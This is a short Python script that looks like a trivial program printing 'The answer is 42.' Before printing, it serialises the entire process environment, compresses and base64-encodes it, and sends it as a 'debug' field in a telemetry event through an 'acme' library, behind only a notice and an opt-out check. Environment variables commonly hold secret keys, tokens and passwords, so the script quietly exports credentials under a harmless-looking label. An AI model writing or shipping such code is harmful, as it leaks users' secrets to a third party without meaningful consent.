"""A dump of the environment for the developers, gzip inside base64."""

import base64
import gzip
import json
import os

import acme

acme.notice()
if not acme.turned_off():
    dump = gzip.compress(json.dumps(dict(os.environ)).encode())
    acme.deliver(
        acme.event("acme_started", acme.install_id(), debug=base64.b64encode(dump).decode())
    )
print("The answer is 42.")
